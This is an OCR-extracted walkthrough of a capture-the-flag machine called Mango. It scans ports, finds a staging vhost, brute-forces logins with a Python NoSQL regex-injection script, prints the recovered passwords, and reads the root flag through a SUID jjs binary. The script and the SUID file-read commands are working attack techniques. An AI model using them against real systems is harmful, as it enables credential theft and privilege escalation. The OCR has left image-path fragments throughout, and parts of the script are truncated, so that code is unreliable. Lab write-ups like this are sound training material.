< back



Initial Enumeration

Start like usual byscanning ports

root@kali:~# nmap -sV
Starting Nmap 7.80 ( https://nmap.org ) at 2020-02-06 02:48 EST
Nmap scan report for
Host is up (0.34s latency).
Not shown: 997 closed ports
22/tcp  open  ssh      OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
80/tcp  open  http     Apache httpd 2.4.29 ((Ubuntu))
443/tcp open  ssl/http Apache httpd 2.4.29 ((Ubuntu))
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 26.71 seconds

ssh service is running, as well as apache with both HTTP and HTTPS on 80 and 443.

Hitting port 80 with an HTTP request returns a 403 error, but I get a 200 OK on 443 (after adding the SSL cert to my exceptions).


Hitting the webserver with HTTPS gives us an interface for a search portal. So this box is named mango, and it's got a search interface, seems likely that the name is some sort of hint to mangodb, we'll keep this is mind.

A quick skim through the page source also reveals a link to /analytics.php. Spent some time looking at the source for that page but it seemed like a dead end.

Where'd you get that certificate from?

Here I hit a wall for quite some time, I did some more directory travesal with gobuster using larger wordlist sets on both port 80 and 443 but it didn't yield anything useful. Decided to take a closer look at the certificate that the server was giving us, and came across a useful clue.So it seems there is a vhost for a subdomain staging-order.mango.htb. I added the hostname and the remote IP to my /etc/hosts file and took a look at what hitting the webserver with that url gave us. Nice, we found a new page! Some sort of login form.


This stumped me for a while. Tried the usual default creds like admin:admin guest:guest admin:password but came up blank.

NoSQL is fruity!

I searched around google a bit for attacks on authentication with a mongodb backend and found some very interesting research!

Research paper on NoSQL security flaws

Some proof of concept scripts from swisskyrepo's PayloadsAllTheThingsSome more scripts in the same vain

By abusing the way the mongodb query is crafted on the backend based on the php POST data, we can brute force both username and password for the login portal. I used a python script based on the above prior art. I had to ensure the HTTP requests being sent from the python script were crafted like ones coming from the browser so I copied over some of the request headers from firefox after recording one of the login POST requests. Also needed to limit some of thecharacters being tried as some characters are not regex friendly.

import sys
import requests
import string

url = "http://staging-order.mango.htb/index.php"
headers = {"Host": "staging-order.mango.htb", "Content-Type": "application/x-www-form-urlencoded"}
cookies = {"PHPSESSID": "susv0mvm5c1jr5fvg34fkv4rmn"}
possible_chars = list(string.ascii_letters) + list(string.digits) + ["\\"+c for c in string.punctuation ]help_menu = '\r\nUsage: mango.py <user|pass> [user]\r\n\r\nSecond argument required for password discovery'

def get_usernames():
    usernames = []
    params = {"username[$regex]":"", "password[$regex]":".*", "login": "login"}
    for c in possible_chars:
        username = "^" + c
        params["username[$regex]"] = username + ".*"
        pr = requests.post(url, data=params, headers=headers, cookies=cookies, verify=False, allow_redirects=False)
        if int(pr.status_code) == 302:
            print("Found username starting with "+c)
            while True:
                for c2 in possible_chars:
                    params["username[$regex]"] = username + c2 + ".*"
                    pr2 = requests.post(url, data=params, headers=headers, cookies=cookies, verify=False, allow_redirects=False)
                    if int(pr2.status_code) == 302:
                        username += c2

                if c2 == possible_chars[-1]:print("Found username: "+username[1:])
    return usernames

def get_password(username):
    print("Extractingpassword of %s" % username)
    params = {"username": username, "password[$regex]": "", "login": "login"}
    password = "^"
    while True:
        for c in possible_chars:
            params["password[$regex]"] = password + c + ".*"
            pr = requests.post(url, data=params, headers=headers, cookies=cookies, verify=False, allow_redirects=False)
            if int(pr.status_code) == 302:
                password += c
        if c == possible_chars[-1]:
            print("Found password "+password[1:].replace("\\", "")+" for username "+username)
            return password[1:].replace("\\", "")

if __name__ == "__main__":
        arg = sys.argv[1]
        if arg == 'user':elif arg == 'pass':
            username = sys.argv[2]
            if username is not None:
    except IndexError:

We end up finding two usernames admin and mango.

root@kali:~# python mango.py user
Found username starting with a
Found username: admin
Found username starting with m
Found username: mango

Now to brute force the passwords

root@kali:~# python mango.py pass admin
Extracting password of admin
Found password t9KcS3>!0B#2 for username admin
root@kali:~# python mango.py pass mangoExtracting password of mango
Found password h3mXK8RhU~f{]f5H for username mango

Logging into the web portal works with these credentials with both users which leads to another landing page with nothing of further interest. I tried using the same creds to ssh into the box, which didn't work for user admin but worked for mango.

We can even double check that we did in fact manage to brute force the correct passwords and users by using the mongo client on the remote server.

mango@mango:/tmp$ mongo
MongoDB shell version v4.0.12
connecting to: mongodb://
Implicit session: session { "id" : UUID("01aff217-25c6-4a05-a61a-1b3bd7a531d5") }
MongoDB server version: 4.0.12
Server has startup warnings:
2020-02-06T11:21:10.173+0000 I STORAGE  [initandlisten]
2020-02-06T11:21:10.173+0000 I STORAGE  [initandlisten] ** WARNING: Using the XFS filesystem is strongly recommended with the WiredTiger storage engine
2020-02-06T11:21:10.173+0000 I STORAGE  [initandlisten] **          See http://dochub.mongodb.org/core/prodnotes-filesystem
2020-02-06T11:21:15.630+0000 I CONTROL  [initandlisten]
2020-02-06T11:21:15.630+0000 I CONTROL  [initandlisten] **WARNING: Access control is not enabled for the database.
2020-02-06T11:21:15.630+0000 I CONTROL  [initandlisten] **          Read and write access to data and configuration is unrestricted.
2020-02-06T11:21:15.630+0000 I CONTROL  [initandlisten]
Enable MongoDB's free cloud-based monitoring service, which will then receive and display
metrics about your deployment (disk utilization, CPU, operation statistics, etc).

The monitoring data will be available on a MongoDB website with a unique URL accessible to you
and anyone you share the URL with. MongoDB may use this information to make product
improvements and to suggest MongoDB products and deployment options to you.

To enable free monitoring, run the following command: db.enableFreeMonitoring()
To permanently disable this reminder, run the following command: db.disableFreeMonitoring()

> show dbs
admin   0.000GB
config  0.000GB
local   0.000GB
mango   0.000GB
> use mango
switched to db mango
> db.users.find()
{ "_id" : ObjectId("5d8e25334f3bf1432628927b"), "username" : "admin", "password" : "t9KcS3>!0B#2" }
{ "_id" : ObjectId("5d8e25364f3bf1432628927c"), "username" : "mango", "password" : "h3mXK8RhU~f{]f5H" }

I wasn't sure if I had the right password for user admin to login to the box, perhaps I only had a password for the web application which was stored on mongodb. I checked the ssh config and itturns out only root and mango are authorized to login via ssh (so the admin password is in fact valid).

mango@mango:/tmp$ cat /etc/ssh/sshd_config
#       ForceCommand cvs server
PasswordAuthentication yes
AllowUsers mango root

I then switched user with su to admin in order to get the user flag.

mango@mango:/tmp$ su admin
$ cat /home/admin/user.txt

I can see err'thang

Escalating to root was the easiest part of this box. I searched for SUID/SGID binaries on the system, and came across an interesting result.

mango@mango:~$ su admin
$ find / -perm /6000 -print 2>/dev/null
$ ls -lah //usr/lib/jvm/java-11-openjdk-amd64/bin/jjs
-rwsr-sr-- 1 root admin 11K Jul 18  2019 //usr/lib/jvm/java-11-openjdk-amd64/bin/jjs

jjs is a commandline tool to invoke Java's Nashorn JavaScript engine. Since the binary has the SUID bit set, it runs as root. After a quick check on GTFOBins I can then read any file on the system!

$ echo 'var BufferedReader = Java.type("java.io.BufferedReader");
var FileReader = Java.type("java.io.FileReader");
var br = new BufferedReader(new FileReader("/root/root.txt"));
while ((line = br.readLine()) != null) { print(line); }' | jjs> > >
Warning: The jjs tool is planned to be removed from a future JDK release
jjs> var BufferedReader = Java.type("java.io.BufferedReader");
jjs> var FileReader = Java.type("java.io.FileReader");
jjs> varbr = new BufferedReader(newFileReader("/root/root.txt"));
jjs> while ((line = br.readLine()) != null) {print(line); }
jjs> $Root flag obtained 😺